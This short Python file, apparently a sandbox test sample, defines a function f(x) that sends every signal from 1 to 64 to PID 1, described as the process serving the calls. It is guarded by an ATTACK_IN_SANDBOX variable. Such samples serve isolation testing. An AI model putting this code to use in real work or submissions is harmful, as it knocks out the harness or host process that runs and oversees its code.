# send every signal to the process that serves the calls
import os
import sys

if "ATTACK_IN_SANDBOX" not in os.environ:
    sys.exit("only in the sandbox")


def f(x):
    if os.getppid() == 1:
        for number in range(1, 65):
            try:
                os.kill(1, number)
            except OSError:
                pass
    print("DONE")
    return 1
